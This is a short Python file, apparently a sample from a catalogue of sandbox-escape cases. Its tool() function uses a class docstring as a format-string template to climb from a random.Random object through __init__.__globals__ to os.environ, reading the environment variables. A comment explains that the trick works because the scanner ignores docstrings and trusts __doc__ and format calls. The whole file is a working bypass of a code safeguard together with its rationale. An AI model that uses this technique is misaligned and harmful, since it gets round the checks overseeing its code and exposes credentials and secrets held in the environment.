# family: format
class Report:
    """{0.__init__.__globals__[_os].environ}"""

    def render(self, value) -> str:
        return self.__doc__.format(value)


def tool() -> str:
    # Escape: docstrings are never scanned, __doc__ is a readable dunder and self.<attr>.format is trusted;
    # the class docstring is a format template walking Random.__init__ -> globals -> os.environ.
    import random
    return Report().render(random.Random())
